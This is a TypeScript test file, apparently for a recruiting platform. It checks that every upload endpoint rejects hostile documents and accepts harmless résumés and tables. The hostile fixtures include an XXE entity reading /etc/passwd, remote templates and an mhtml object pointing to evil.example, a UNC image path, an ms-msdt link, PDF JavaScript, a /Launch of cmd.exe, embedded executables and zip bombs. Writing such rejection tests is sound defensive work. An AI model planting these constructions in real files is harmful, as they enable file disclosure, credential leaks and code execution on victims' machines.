// Files that would do harm when opened: every upload of the contract refuses them. They are made with other
// libraries than those that read them.
import { randomBytes } from 'node:crypto';
import JSZip from 'jszip';
import { beforeAll, describe, expect, it } from 'vitest';
import { api } from '../../src/contract/api.ts';
import type { Endpoint } from '../../src/contract/call/endpoint.ts';
import { type Cast, castOf, type Role } from '../fixtures/cast.ts';

type Files = Record<string, string>;
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';

const relationships = (...items: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${items.join('')}</Relationships>`;
const relationship = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r${randomBytes(3).toString('hex')}" Type="${OFFICE}/${type}" Target="${target}"${mode}/>`;

async function office(extension: 'docx' | 'xlsx', more: Files = {}): Promise<Buffer> {
  const isWord = extension === 'docx';
  const main = isWord ? 'word/document.xml' : 'xl/workbook.xml';
  const kind = isWord ? 'wordprocessingml.document' : 'spreadsheetml.sheet';
  const body = isWord
    ? '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>张三 简历</w:t></w:r></w:p></w:body></w:document>'
    : '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>';
  const parts: Files = {
    '[Content_Types].xml': `<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${kind}.main+xml"/></Types>`,
    '_rels/.rels': relationships(relationship('officeDocument', main, '')),
    [main]: body,
    ...more,
  };
  const zip = new JSZip();
  for (const [name, text] of Object.entries(parts)) zip.file(name, text);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
}

/** A hand-written PDF of one empty page. @param more entries of its catalogue, and objects. */
function pdf(more = '', ...objects: string[]): Buffer {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const offsets = all.map((body, i) => {
    const at = text.length;
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  const size = all.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
  text += `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const wordRels = 'word/_rels/document.xml.rels';
const sheetRels = 'xl/_rels/workbook.xml.rels';
const outside = (type: string, target = 'https://evil.example/x') =>
  relationships(relationship(type, target));
const XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';

/** Refused files by what is wrong with them, each with its file name. */
const HOSTILE: Record<string, () => Promise<[name: string, bytes: Buffer]>> = {
  'a DOCX with macros': async () => [
    'a.docx',
    await office('docx', { 'word/vbaProject.bin': 'x' }),
  ],
  'an XLSX with macros': async () => ['a.xlsx', await office('xlsx', { 'xl/vbaProject.bin': 'x' })],
  'an XLSX with a macro sheet': async () => [
    'a.xlsx',
    await office('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
  ],
  'a DOCX whose template lies elsewhere': async () => [
    'a.docx',
    await office('docx', { 'word/_rels/settings.xml.rels': outside('attachedTemplate') }),
  ],
  'a DOCX whose template hides its address': async () => [
    'a.docx',
    await office('docx', {
      'word/_rels/settings.xml.rels': outside('attached&#84;emplate', '&#104;ttp://evil.example'),
    }),
  ],
  'a DOCX whose list is UTF-16': async () => {
    const zip = await JSZip.loadAsync(await office('docx'));
    const text = `\ufeff${outside('attachedTemplate')}`;
    zip.file(wordRels, Buffer.from(text, 'utf16le'));
    return ['a.docx', await zip.generateAsync({ type: 'nodebuffer' })];
  },
  'a DOCX with an object elsewhere': async () => [
    'a.docx',
    await office('docx', { [wordRels]: outside('oleObject', 'mhtml:https://evil.example!x') }),
  ],
  'a DOCX with a frame': async () => [
    'a.docx',
    await office('docx', { 'word/_rels/webSettings.xml.rels': outside('frame') }),
  ],
  'a DOCX with a linked picture': async () => [
    'a.docx',
    await office('docx', { [wordRels]: outside('image', '\\\\evil.example\\share\\x.png') }),
  ],
  'a DOCX with a picture outside that says it is inside': async () => [
    'a.docx',
    await office('docx', {
      [wordRels]: relationships(relationship('image', 'file://evil.example/x.png', '')),
    }),
  ],
  'a DOCX with a link that runs something': async () => [
    'a.docx',
    await office('docx', { [wordRels]: outside('hyperlink', 'ms-msdt:/id PCWDiagnostic') }),
  ],
  'an XLSX with another workbook': async () => [
    'a.xlsx',
    await office('xlsx', { [sheetRels]: outside('externalLinkPath', 'file:///c:/x.xlsx') }),
  ],
  'a DOCX that reads by an entity': async () => [
    'a.docx',
    await office('docx', { 'word/styles.xml': XXE }),
  ],
  'an XLSX that reads by an entity': async () => [
    'a.xlsx',
    await office('xlsx', { 'xl/styles.xml': XXE }),
  ],
  'a DOCX that grows': async () => [
    'a.docx',
    await office('docx', { 'word/media/a.bmp': '\0'.repeat(60_000_000) }),
  ],
  'an XLSX that grows': async () => [
    'a.xlsx',
    await office('xlsx', { 'xl/media/a.bmp': '\0'.repeat(60_000_000) }),
  ],
  'a DOCX with a program': async () => [
    'a.docx',
    await office('docx', { 'word/embeddings/oleObject1.bin': 'MZ' }),
  ],
  'a PDF with a script': async () => [
    'a.pdf',
    pdf(
      '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
      '<< /S /JavaScript /JS (app.alert(1)) >>',
    ),
  ],
  'a PDF that opens with a script under another spelling': async () => [
    'a.pdf',
    pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
  ],
  'a PDF that starts a program': async () => [
    'a.pdf',
    pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
  ],
  'a PDF with a file within': async () => [
    'a.pdf',
    pdf(
      '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
      '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
    ),
  ],
  'a PDF with a web page behind its end': async () => [
    'a.pdf',
    Buffer.concat([pdf(), Buffer.from('<script>alert(1)</script>')]),
  ],
  'a PDF that is a zip as well': async () => [
    'a.pdf',
    Buffer.concat([pdf(), await office('docx')]),
  ],
  'a web page called a PDF': async () => ['a.pdf', Buffer.from('<html><script>1</script>')],
  'a program called a DOCX': async () => ['a.docx', Buffer.from('MZ\x90\x00')],
};

const uploads = api.map(({ endpoint }) => endpoint).filter(({ upload }) => upload);
const CALLER: Record<string, Role> = { recruiter: 'recruiter', operator: 'operator' };

let cast: Cast;
beforeAll(async () => {
  cast = await castOf();
});

async function upload(endpoint: Endpoint, name: string, bytes: Buffer) {
  const { w, people } = cast;
  await w.services.store.clear();
  const boundary = randomBytes(8).toString('hex');
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="${endpoint.upload?.field}"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`;
  const response = await w.http.inject({
    method: 'POST',
    url: endpoint.path,
    headers: {
      token: people[CALLER[endpoint.access] ?? 'seeker'].token,
      'content-type': `multipart/form-data; boundary=${boundary}`,
    },
    payload: Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  });
  return response.json<{ code: number; msg: string }>();
}

describe.each(Object.entries(HOSTILE))('%s', (_, make) => {
  it('is refused in words by every upload', async () => {
    const [name, bytes] = await make();
    for (const endpoint of uploads) {
      const { code, msg } = await upload(endpoint, name, bytes);
      expect([endpoint.path, code === 422 || code === 415, msg]).toEqual([
        endpoint.path,
        true,
        expect.stringMatching(/[一-龥]{2}/),
      ]);
    }
  });
});

describe('a harmless file', () => {
  const HARMLESS: Record<string, () => Promise<[string, Buffer]>> = {
    'a DOCX with links': async () => [
      '简历.docx',
      await office('docx', {
        [wordRels]: relationships(
          relationship('hyperlink', 'https://example.com/?a=1&amp;b=2'),
          relationship('hyperlink', 'mailto:a@example.com'),
        ),
      }),
    ],
    'a PDF': async () => ['简历.pdf', pdf()],
    'a table': async () => ['报表.xlsx', await office('xlsx')],
  };
  it.each(Object.entries(HARMLESS))('%s is sent', async (_, make) => {
    const endpoint = uploads.find(({ path }) => path === '/api/chat/upload');
    const [name, bytes] = await make();
    if (endpoint) expect(await upload(endpoint, name, bytes)).toMatchObject({ code: 200 });
  });
});
